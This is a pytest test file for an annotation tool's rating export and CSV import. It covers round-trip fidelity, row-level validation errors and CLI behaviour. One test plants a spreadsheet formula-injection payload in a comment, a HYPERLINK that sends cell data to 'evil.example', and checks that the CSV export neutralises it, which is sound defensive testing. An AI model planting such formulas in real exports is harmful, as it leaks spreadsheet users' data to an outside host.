"""Exports read back and compared with the database; CSV imports validated row by row, all or nothing."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from annotation.analysis import QCSettings, analyze
from annotation.errors import AnnotationError
from annotation.export import export_study, read_parquet_protocol, sidecar_path
from annotation.importer import RatingsImportError, import_ratings
from annotation.schema import open_db
from test_analysis import PROTOCOL, SCORE, StudyBuilder, random_study

REPO = Path(__file__).resolve().parents[1]


def db_ratings(builder: StudyBuilder) -> dict[tuple[str, str, str], dict]:
    rows = builder.db.execute("SELECT item_id, annotator_id, question, rating, score, shortcomings_json, comment "
                              "FROM ratings").fetchall()
    return {(r[0], r[1], r[2]): {"rating": r[3], "score": r[4], "shortcomings": r[5], "comment": r[6]}
            for r in rows}


def study_for_export(tmp_path: Path) -> StudyBuilder:
    builder = random_study(tmp_path / "study.db", items_per_system=5)
    item = next(iter(builder.items))
    builder.assign(item, "late", gate_correct=0)
    builder.rate(item, "late", "model", "weak_no", shortcomings=["restates_input", "insufficient"])
    builder.db["ratings"].update(builder.db.execute("SELECT max(id) FROM ratings").fetchone()[0],
                                 {"comment": 'says "hi", with a comma\nand a newline'})
    return builder


def read_back(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path, keep_default_na=True)
    if fmt == "jsonl":
        return pd.read_json(path, lines=True)
    return pd.read_parquet(path)


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_export_round_trip_matches_the_database(tmp_path, fmt):
    builder = study_for_export(tmp_path)
    out = export_study(builder.db_path, "s1", fmt, tmp_path / f"out.{fmt}")
    table = read_back(out, fmt)
    expected = db_ratings(builder)
    assert len(table) == len(expected)  # one row per item x annotator x question
    for row in table.to_dict("records"):
        key = (row["item_id"], row["annotator_id"], row["question"])
        stored = expected[key]
        record = builder.items[row["item_id"]]
        assert row["rating"] == stored["rating"]
        assert row["score"] == pytest.approx(SCORE[stored["rating"]])
        assert row["binary"] == int(stored["rating"] in ("yes", "weak_yes"))
        assert row["dataset"] == record["dataset"] and row["model"] == record["model"]
        assert row["method"] == record["method"] and row["gold_label"] == record["gold_label"]
        assert row["pred_label"] == record["pred_label"] and bool(row["correct"]) == record["correct"]
        assert row["record_id"] == record["id"]
        shown = record["pred_explanation"] if row["question"] == "model" else record["gold_explanations"][0]
        assert row["explanation"] == shown
        assert row["shown_position"] == (1 if row["question"] == "gold" else 2)
        for metric, value in record["metrics"].items():
            if value is None:
                assert pd.isna(row[f"metric_{metric}"])
            else:
                assert row[f"metric_{metric}"] == pytest.approx(value)
        if stored["shortcomings"]:
            assert row["shortcomings"] == ";".join(json.loads(stored["shortcomings"]))
            assert row["comment"] == stored["comment"]
            assert row["qc_exclusion"] == "gate_wrong"
        else:
            assert pd.isna(row["qc_exclusion"])
    meta = json.loads(sidecar_path(out).read_text())
    assert meta["protocol"] == PROTOCOL and meta["study"]["id"] == "s1"
    assert meta["columns"] == list(table.columns)
    if fmt == "parquet":
        assert read_parquet_protocol(out)["protocol"] == PROTOCOL
    tokens = [r[0] for r in builder.db.execute("SELECT token FROM annotators")]
    assert tokens and not any(token in out.read_bytes().decode("latin-1") for token in tokens)
    assert "token" not in table.columns


def test_csv_export_quotes_annotator_text_a_spreadsheet_would_run_and_import_reads_it_back(tmp_path):
    from annotation.importer import read_rows
    builder = study_for_export(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    last = builder.db.execute("SELECT max(id) FROM ratings").fetchone()[0]
    builder.db["ratings"].update(last, {"comment": formula})
    out = export_study(builder.db_path, "s1", "csv", tmp_path / "out.csv")
    text = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    header, rows = read_rows(out)
    comments = [cells[header.index("comment")] for _, cells in rows]
    assert formula in comments and not any(c.startswith("'") for c in comments)
    jsonl = export_study(builder.db_path, "s1", "jsonl", tmp_path / "out.jsonl")
    assert formula in set(read_back(jsonl, "jsonl")["comment"].dropna())  # only CSV is quoted


def test_export_rejects_unknown_format_and_study(tmp_path):
    builder = StudyBuilder(tmp_path / "s.db")
    builder.add_item("a")
    with pytest.raises(AnnotationError, match="unknown export format 'xlsx'"):
        export_study(builder.db_path, "s1", "xlsx", tmp_path / "out.xlsx")
    with pytest.raises(AnnotationError, match="no study 'zz'"):
        export_study(builder.db_path, "zz", "csv", tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def small_study(tmp_path: Path) -> StudyBuilder:
    builder = StudyBuilder(tmp_path / "import.db")
    for i in range(3):
        builder.add_item(f"rec{i}", metrics={"bertscore_f1": 60.0 + i})
    builder.rate_item("s1-rec0", "app-user", "yes", "yes")
    return builder


def write_csv(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def counts(builder: StudyBuilder) -> tuple[int, int, int]:
    return tuple(builder.db.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0]
                 for t in ("ratings", "annotators", "assignments"))


def test_import_accepts_values_labels_scores_and_record_ids(tmp_path):
    builder = small_study(tmp_path)
    csv_path = write_csv(tmp_path / "prolific.csv",
                         "Item ID,WorkerId,Question,Rating,Shortcomings,Comment,Seconds\n"
                         "s1-rec0,W1,model,Weak Yes,Restates the input; insufficient,ok,12.5\n"
                         "rec0,W1,gold,YES,,,3\n"           # record id instead of item id
                         "rec1,W2,,0.667,none,,\n"          # default question, numeric score
                         "s1-rec2,W2,Model,no,,\"long, quoted\",\n")
    summary = import_ratings(builder.db_path, "s1", csv_path)
    assert (summary.ratings_inserted, summary.annotators_created, summary.assignments_created) == (4, 2, 3)
    assert summary.origin == "import:prolific.csv"
    rows = builder.db.execute("SELECT item_id, annotator_id, question, rating, score, shortcomings_json, comment, "
                              "seconds_spent, origin FROM ratings WHERE origin LIKE 'import:%' ORDER BY id").fetchall()
    assert [r[:5] for r in rows] == [
        ("s1-rec0", "import:s1:W1", "model", "weak_yes", pytest.approx(2 / 3)),
        ("s1-rec0", "import:s1:W1", "gold", "yes", 1.0),
        ("s1-rec1", "import:s1:W2", "model", "weak_yes", pytest.approx(2 / 3)),
        ("s1-rec2", "import:s1:W2", "model", "no", 0.0)]
    assert json.loads(rows[0][5]) == ["restates_input", "insufficient"] and rows[0][6] == "ok"
    assert rows[3][6] == "long, quoted" and rows[0][7] == 12.5
    assert {r[8] for r in rows} == {"import:prolific.csv"}
    sources = dict(builder.db.execute("SELECT id, source FROM annotators").fetchall())
    assert sources["import:s1:W1"] == "import" and sources["ann-app-user"] == "link"
    seconds = builder.db.execute("SELECT seconds_spent FROM assignments WHERE annotator_id='import:s1:W1'").fetchone()
    assert seconds[0] == pytest.approx(12.5)  # the larger of W1's two rows on rec0, not their sum
    report = analyze(builder.db_path, "s1")
    assert report["qc"]["ratings_total"] == 2 + 4 and report["qc"]["annotators_total"] == 3


def test_bad_rows_list_every_problem_and_import_nothing(tmp_path):
    builder = small_study(tmp_path)
    before = counts(builder)
    csv_path = write_csv(tmp_path / "mturk.csv",
                         "item_id,annotator,question,rating,shortcomings,seconds\n"
                         "s1-rec1,W1,model,yes,,\n"              # line 2 fine
                         "nope,W1,model,yes,,\n"                 # line 3 unknown item
                         "s1-rec1,,model,yes,,\n"                # line 4 no annotator
                         "s1-rec1,W2,both,maybe,,\n"             # line 5 question and rating
                         "s1-rec1,W3,model,yes,bad idea,-4\n"    # line 6 shortcoming and seconds
                         "s1-rec1,W1,model,no,,\n"               # line 7 duplicate of line 2
                         "s1-rec2,W4,model,0.5,,\n")             # line 8 score not on the scale
    with pytest.raises(RatingsImportError) as caught:
        import_ratings(builder.db_path, "s1", csv_path)
    problems = {(p.line, p.field) for p in caught.value.problems}
    assert problems == {(3, "item"), (4, "annotator"), (5, "question"), (5, "rating"), (6, "shortcomings"),
                        (6, "seconds"), (7, "annotator"), (8, "rating")}
    message = str(caught.value)
    assert "mturk.csv" in message and "nothing was imported" in message
    assert "line 3, field 'item': 'nope' is neither an item id nor a record id" in message
    assert "line 7, field 'annotator': duplicate of line 2" in message
    assert counts(builder) == before


def test_import_reads_an_mturk_batch_file(tmp_path):
    builder = small_study(tmp_path)
    csv_path = write_csv(tmp_path / "Batch_123_batch_results.csv",
                         "HITId,WorkerId,Input.item_id,Answer.question,Answer.rating\n"
                         "H1,A1B2,rec1,gold,weak no\nH2,A1B2,rec2,model,No\n")
    summary = import_ratings(builder.db_path, "s1", csv_path)
    assert summary.ratings_inserted == 2
    assert builder.db.execute("SELECT rating FROM ratings WHERE annotator_id = 'import:s1:A1B2' AND "
                              "question = 'gold'").fetchone()[0] == "weak_no"


def test_importing_the_same_file_twice_is_refused(tmp_path):
    builder = small_study(tmp_path)
    csv_path = write_csv(tmp_path / "once.csv", "item,annotator,rating\ns1-rec1,W1,yes\ns1-rec2,W1,no\n")
    import_ratings(builder.db_path, "s1", csv_path)
    after_first = counts(builder)
    with pytest.raises(RatingsImportError, match="already rated this item"):
        import_ratings(builder.db_path, "s1", csv_path)
    assert counts(builder) == after_first


def test_import_file_level_errors(tmp_path):
    builder = small_study(tmp_path)
    before = counts(builder)
    with pytest.raises(AnnotationError, match="missing column.*rating"):
        import_ratings(builder.db_path, "s1", write_csv(tmp_path / "a.csv", "item,annotator\ns1-rec1,W1\n"))
    with pytest.raises(AnnotationError, match="no rows"):
        import_ratings(builder.db_path, "s1", write_csv(tmp_path / "b.csv", "item,annotator,rating\n"))
    with pytest.raises(AnnotationError, match="no study 'other'"):
        import_ratings(builder.db_path, "other", write_csv(tmp_path / "c.csv", "item,annotator,rating\nx,y,yes\n"))
    with pytest.raises(AnnotationError, match="not found"):
        import_ratings(builder.db_path, "s1", tmp_path / "missing.csv")
    with pytest.raises(AnnotationError, match="d.csv:1: the header names column 'rating' twice"):
        import_ratings(builder.db_path, "s1", write_csv(tmp_path / "d.csv", "item,annotator,rating,Rating\nx,y,yes,no\n"))
    with pytest.raises(AnnotationError, match="e.csv:3: 5 cells but the header has 4; put text that contains commas"):
        import_ratings(builder.db_path, "s1", write_csv(tmp_path / "e.csv", "item,annotator,rating,comment\n"
                                                        "s1-rec1,W1,yes,fine\ns1-rec2,W1,no,good, but vague\n"))
    with pytest.raises(AnnotationError, match="cannot read .xlsx files; save the ratings as .csv"):
        import_ratings(builder.db_path, "s1", write_csv(tmp_path / "f.xlsx", "item,annotator,rating\nx,y,yes\n"))
    for name, line in [("g.jsonl", '{"item": "s1-rec1", "annotator": "\\ud800", "rating": "yes"}'),
                       ("h.jsonl", "[" * 100_000 + "]" * 100_000)]:
        with pytest.raises(AnnotationError, match=f"{name}:1"):  # the line, not a UnicodeEncodeError/RecursionError
            import_ratings(builder.db_path, "s1", write_csv(tmp_path / name, line + "\n"))
    with pytest.raises(RatingsImportError) as caught:
        import_ratings(builder.db_path, "s1", write_csv(tmp_path / "i.csv", "item,annotator,rating,shown_position\n"
                                                        "s1-rec1,W1,yes,inf\ns1-rec2,W1,no,nan\ns1-rec1,W2,no,1e300\n"))
    assert {(p.line, p.field) for p in caught.value.problems} == {(2, "shown_position"), (3, "shown_position"),
                                                                 (4, "shown_position")}
    assert counts(builder) == before


def _run_cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "annotation.analysis_cli", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)


def test_cli_import_and_export(tmp_path):
    builder = small_study(tmp_path)
    bad = write_csv(tmp_path / "bad.csv", "item,annotator,rating\ns1-rec1,W1,yes\ns1-rec2,W1,perhaps\n")
    done = _run_cli("import-ratings", "--db", str(builder.db_path), "--study", "s1", "--file", str(bad))
    assert done.returncode == 2 and "line 3, field 'rating'" in done.stderr and "Traceback" not in done.stderr
    good = write_csv(tmp_path / "good.csv", "item,annotator,rating\ns1-rec1,W1,yes\ns1-rec2,W1,weak no\n")
    done = _run_cli("import-ratings", "--db", str(builder.db_path), "--study", "s1", "--file", str(good))
    assert done.returncode == 0 and "imported 2 ratings" in done.stdout
    out = tmp_path / "export" / "ratings.jsonl"
    done = _run_cli("export", "--db", str(builder.db_path), "--study", "s1", "--format", "jsonl", "--out", str(out))
    assert done.returncode == 0, done.stderr
    table = pd.read_json(out, lines=True)
    assert len(table) == 4 and set(table["origin"]) == {"app", "import:good.csv"}
    assert set(table.loc[table["origin"] == "import:good.csv", "annotator_source"]) == {"import"}


# ---------------------------------------------------------------- export -> import round trip

def two_system_predictions(tmp_path: Path, shared_data: Path) -> Path:
    """Two simulated systems on the same 12 e-SNLI dev inputs (ids differ, inputs equal), with metrics."""
    from annotation.sample_data import simulated_esnli_predictions

    lines = []
    for tag, seed in (("a", 1), ("b", 2)):
        for i, record in enumerate(simulated_esnli_predictions(shared_data, count=12, accuracy=0.7, seed=seed)):
            row = dataclasses.asdict(record)
            row = {**row, "id": f"{row['id']}-{tag}", "model": f"sim-{tag}",
                   "metrics": {"bertscore_f1": 40.0 + (7 * i + 13 * seed) % 50, "bleu": float((5 * i) % 17)}}
            lines.append(json.dumps(row))
    path = tmp_path / "preds.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def record_policy_preset(tmp_path: Path) -> Path:
    preset = json.loads((REPO / "annotation" / "presets" / "evil.json").read_text())
    preset["gate"]["policy"] = "record"  # wrong gate answers keep rating, so every QC rule has work to do
    path = tmp_path / "evil-record.json"
    path.write_text(json.dumps(preset))
    return path


def stepping_clock(steps: list[float]):
    """The store's injected clock, advancing by the next of `steps` seconds at each reading (varied times)."""
    from datetime import datetime, timedelta, timezone

    state = {"now": datetime(2026, 1, 1, tzinfo=timezone.utc), "i": 0}

    def now():
        state["now"] += timedelta(seconds=steps[state["i"] % len(steps)])
        state["i"] += 1
        return state["now"]
    return now


def rated_study(db_path: Path, predictions: Path, preset: Path) -> str:
    from annotation.store import RatingInput, StudySettings, Store

    store = Store(db_path, clock=stepping_clock([0.5, 3, 1, 7, 2, 11, 0.25]))  # item times vary: some too fast
    study_id = store.create_study(predictions, StudySettings(preset=str(preset), items_per_page=18,
                                                             annotators_per_item=3, only_correct=False,
                                                             per_label=0, seed=5))
    values = ["yes", "weak_yes", "weak_no", "no"]
    for a_index, annotator in enumerate(store.add_annotators(study_id, 4)):
        for step in range(30):
            assignment = store.next_assignment(annotator)
            if assignment is None:
                break
            gold = store.item(assignment.item_id)["gold_label"]
            wrong = (step + a_index) % 7 == 3
            answer = ("neutral" if gold != "neutral" else "entailment") if wrong else gold
            assignment = store.answer_gate(annotator, assignment.id, answer)
            model_value = values[(step * 3 + a_index) % 4]
            gold_value = values[0] if a_index != 3 else values[(step + 2) % 4]  # annotator 3 rejects gold
            store.submit(annotator, assignment.id, {
                "model": RatingInput(model_value, ["none"] if model_value == "yes" else ["insufficient"]),
                "gold": RatingInput(gold_value, ["none"] if gold_value == "yes" else ["restates_input"])},
                comment="fine" if step % 5 == 0 else "")
    return study_id


def comparable(report: dict) -> dict:
    """The report without the study's identity; imported annotator ids read as the originals."""
    text = json.dumps({k: v for k, v in report.items() if k != "study"}, sort_keys=True)
    return json.loads(re.sub(r"import:[^:\"]+:", "", text))


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_export_then_import_into_a_fresh_study_gives_identical_analysis(tmp_path, shared_data, fmt):
    predictions = two_system_predictions(tmp_path, shared_data)
    preset = record_policy_preset(tmp_path)
    original_db = tmp_path / "original.db"
    study_id = rated_study(original_db, predictions, preset)
    settings = QCSettings(min_seconds=5.0, min_gold_acceptance=0.6, n_boot=300, seed=4)
    before = analyze(original_db, study_id, settings)
    qc = before["qc"]
    assert all(qc["excluded"][rule] > 0 for rule in ("gate_wrong", "too_fast", "low_gold_acceptance")), qc
    assert 2 <= before["significance"]["between_systems"][0]["n_items"] <= 12  # paired on the same inputs

    out = export_study(original_db, study_id, fmt, tmp_path / f"ratings.{fmt}")
    from annotation.store import StudySettings, Store

    fresh_db = tmp_path / "fresh.db"
    fresh = Store(fresh_db).create_study(predictions, StudySettings(preset=str(preset), items_per_page=18,
                                                                      annotators_per_item=3, only_correct=False,
                                                                      per_label=0, seed=5))
    summary = import_ratings(fresh_db, fresh, out)
    assert summary.ratings_inserted == qc["ratings_total"]
    after = analyze(fresh_db, fresh, settings)
    assert comparable(after) == comparable(before)
    ids = {r[0] for r in open_db(fresh_db).execute("SELECT id FROM annotators")}
    assert all(i.startswith(f"import:{fresh}:") and i.count("import:") == 1 for i in ids)
    positions = open_db(fresh_db).execute("SELECT COUNT(*) FROM ratings WHERE shown_position IS NULL").fetchone()
    assert positions[0] == 0
